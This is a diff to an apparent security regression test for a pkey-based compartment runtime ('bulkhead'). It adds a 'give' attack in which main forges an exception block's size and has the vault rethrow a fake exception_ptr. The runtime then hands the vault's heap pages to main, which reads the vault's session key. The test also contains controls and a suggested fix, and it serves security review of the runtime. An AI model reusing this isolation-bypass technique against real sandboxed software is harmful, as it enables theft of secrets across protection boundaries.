@@ -20,6 +20,17 @@
 // steal with the vault's rights: it writes the vault's key out (ATTACK
 // SUCCEEDED). No vault address is guessed, but one is learnt from a
 // handle.
+// "give", data only, no code pointer: the record's size says the block
+// runs on to the vault's next heap pages (to the 64 KiB page where its
+// exception blocks are, which a first exception main catches shows), and
+// the vault raises the error to main (vault_raise: rethrow_exception).
+// The check passes; the hand-over (bh_exception_arrives) finds the
+// dependent's primary a live block of the vault's by the same test and
+// gives main its pages, every page of the vault's heap in between
+// (pkey_mprotect to key 0; the supervisor asks only that the list names
+// it and the pages carry the vault's key). main, in its catch, reads the
+// vault's session key (vault_open: malloc in the vault) there (ATTACK
+// SUCCEEDED).
 // "own": the uncounted reference that attacks-rev54-eptr-double-read.cpp
 // names, with no handle and no address known in advance. The vault keeps
 // an exception of its own and hands copies out in the caller's memory,
@@ -34,16 +45,18 @@
 // block to one of them. The vault's own later release of its exception
 // passes the check on main's bytes and calls steal with the vault's
 // rights (ATTACK SUCCEEDED). The controls: "forged control" leaves the
-// bytes zero and the check stops the process; "own control" hands back
-// only the real handle and writes no record: nothing stolen.
-// Seen in the guest (review 56, main at da646b5): "forged" and "own"
-// ATTACK SUCCEEDED 3 of 3 each; the controls as above 3 of 3.
+// bytes zero and the check stops the process ("give control" too); "own
+// control" hands back only the real handle and writes no record: nothing
+// stolen.
+// Seen in the guest (review 56, main at da646b5): "forged", "own" and
+// "give" ATTACK SUCCEEDED 3 of 3 each; the controls as above 3 of 3.
 // Suggested fix: decide "one of the compartment's own live blocks" from
 // state only the runtime writes, not from bytes in the block: e.g. a
 // table of the compartment's live exception blocks on its key (beside its
 // list of given blocks, in the heap's metadata header), entered at
 // allocation and removed at free, or exception blocks from an arena part
-// that the compartment's malloc never hands out. That closes "forged";
+// that the compartment's malloc never hands out. That closes "forged"
+// and "give" (the hand-over's size then comes from the runtime too);
 // "own" also needs the uncounted reference closed: with a compartment's
 // rights refuse an exception_ptr `this` (in _M_addref and _M_release)
 // outside memory of the compartment's own key, so that no word the
@@ -55,10 +68,13 @@
 // RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
 // RUN: not %run %t forged control 2>&1 | FileCheck %s --check-prefix=CONTROL
 // RUN: %run %t own control 2>&1 | FileCheck %s --check-prefix=OWN-CONTROL
+// RUN: not %run %t give control 2>&1 | FileCheck %s --check-prefix=CONTROL
 // RUN: %run %t forged > %t.forged 2>&1 || true
 // RUN: FileCheck %s --check-prefixes=CHECK,FORGED < %t.forged
 // RUN: %run %t own > %t.own 2>&1 || true
 // RUN: FileCheck %s --check-prefixes=CHECK,OWN < %t.own
+// RUN: %run %t give > %t.give 2>&1 || true
+// RUN: FileCheck %s --check-prefixes=CHECK,FORGED < %t.give
 // CONTROL: note in the vault's heap
 // CONTROL: bulkhead: error: compartment 'vault' took a std::exception_ptr to an exception it does not own
 // OWN-CONTROL: the vault keeps its exception
@@ -70,6 +86,7 @@
 #include <bulkhead.h>
 #include <exception>
 #include <new>
+#include <typeinfo>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -99,6 +116,7 @@ extern "C" BULKHEAD_ENTRY(vault) void vault_drop(void) {
 /* Review 54's API: the vault keeps an error of its own, hands copies out
  * as opaque handles in the caller's memory, and ends a handle in place
  * when the caller hands it back. */
+extern "C" BULKHEAD_ENTRY(vault) void vault_throw(int v) { throw E{v}; }
 extern "C" BULKHEAD_ENTRY(vault) void vault_keep_own(void) {
   try {
     throw E{17};
@@ -150,6 +168,17 @@ extern "C" BULKHEAD_ENTRY(vault) int vault_add_message(const void *src,
   return 0;
 }
 
+/* The vault's session key, in its heap; and its error raised to the
+ * caller (std::rethrow_exception of an exception_ptr handed to it). */
+BULKHEAD_DATA(vault) char *vault_session;
+extern "C" BULKHEAD_ENTRY(vault) void vault_open(void) {
+  vault_session = (char *)malloc(64);
+  strcpy(vault_session, "TOP-SECRET-VAULT-SESSION");
+}
+extern "C" BULKHEAD_ENTRY(vault) void vault_raise(std::exception_ptr *e) {
+  std::rethrow_exception(*e);
+}
+
 static const char *volatile from = vault_key; /* key-0 words */
 
 extern "C" __attribute__((used)) void steal(void *object) {
@@ -168,9 +197,9 @@ extern "C" __attribute__((used)) void steal(void *object) {
  * header (GCC 12): what a live exception block of the vault's starts
  * with, page-aligned. */
 enum { PAGE = 4096, REC = 64, HDR = 128 };
-static void forge(unsigned char *blk, int count) {
+static void forge(unsigned char *blk, int count, uint64_t size = PAGE) {
   memset(blk, 0, REC + HDR);
-  uint64_t magic = 0x6365786568627562ull, size = PAGE;
+  uint64_t magic = 0x6365786568627562ull;
   uint32_t live = 1;
   memcpy(blk, &magic, 8);
   memcpy(blk + 8, &size, 8);
@@ -178,17 +207,34 @@ static void forge(unsigned char *blk, int count) {
   memcpy(blk + REC, &count, 4); /* referenceCount */
   uintptr_t p;
   __asm__("leaq steal(%%rip), %0" : "=r"(p));
-  memcpy(blk + REC + 24, &p, 8); /* exceptionDestructor */
+  if (size == PAGE)
+    memcpy(blk + REC + 24, &p, 8); /* exceptionDestructor */
+  const std::type_info *t = &typeid(int);
+  memcpy(blk + REC + 16, &t, 8); /* exceptionType */
+}
+
+/* The end of the writable mapping holding a. */
+static uintptr_t mapping_end(uintptr_t a) {
+  FILE *f = fopen("/proc/self/maps", "r");
+  char line[512];
+  uintptr_t lo, hi, end = 0;
+  while (f && fgets(line, sizeof line, f))
+    if (sscanf(line, "%lx-%lx", &lo, &hi) == 2 && lo <= a && a < hi)
+      end = hi;
+  if (f)
+    fclose(f);
+  return end;
 }
 
 /* Makes the bytes at page-aligned vault address r, inside note h, a live
  * exception block's (control: leaves them zero). */
-static void place(struct note *h, uintptr_t r, int count, int control) {
+static void place(struct note *h, uintptr_t r, int count, int control,
+                  uint64_t size = PAGE) {
   unsigned char blk[REC + HDR];
   if (control)
     memset(blk, 0, sizeof blk);
   else
-    forge(blk, count);
+    forge(blk, count, size);
   if (vault_note_write(h, r - (uintptr_t)h->data, blk, sizeof blk)) {
     puts("the block is not inside the note");
     exit(1);
@@ -200,6 +246,45 @@ int main(int argc, char **argv) {
   if (argc < 2)
     return 2;
   int control = argc > 2 && !strcmp(argv[2], "control");
+  if (!strcmp(argv[1], "give")) {
+    /* A record that runs from the note to the vault's exception blocks
+     * (where a first exception main catches shows them to be, the heap's
+     * next 64 KiB page; their pages are given to main as the record's
+     * are, which would not be the vault's key then): the vault rethrows
+     * it to main, and the hand-over gives main all those pages, the
+     * session key's among them. */
+    struct note *h = vault_note_new(3 * PAGE);
+    vault_open();
+    uintptr_t end = 0;
+    try {
+      vault_throw(1);
+    } catch (E &e) {
+      end = (uintptr_t)&e & ~(uintptr_t)0xffff;
+    }
+    uintptr_t r = ((uintptr_t)h->data + PAGE - 1) & ~(uintptr_t)(PAGE - 1);
+    printf("the vault's exceptions at %p\n", (void *)end);
+    if (end <= r || end > mapping_end(r))
+      end = r + PAGE;
+    printf("note in the vault's heap at %p\n", (void *)h);
+    place(h, r, 0, control, end - r);
+    alignas(std::exception_ptr) unsigned char word[sizeof(std::exception_ptr)];
+    uintptr_t object = r + REC + HDR;
+    memcpy(word, &object, sizeof object);
+    try {
+      vault_raise(reinterpret_cast<std::exception_ptr *>(word));
+    } catch (...) {
+      for (const char *q = (const char *)r; q + 24 < (const char *)end; q++)
+        if (!memcmp(q, "TOP-SECRET-VAULT-SESSION", 24)) {
+          printf("ATTACK SUCCEEDED: the vault's session key read by main at "
+                 "%p: %s\n",
+                 (const void *)q, q);
+          _exit(0);
+        }
+      puts("caught, no key found");
+    }
+    puts("nothing stolen");
+    return 0;
+  }
   if (!strcmp(argv[1], "forged")) {
     /* A word naming bytes of the vault's heap the caller chose. */
     struct note *h = vault_note_new(3 * PAGE);
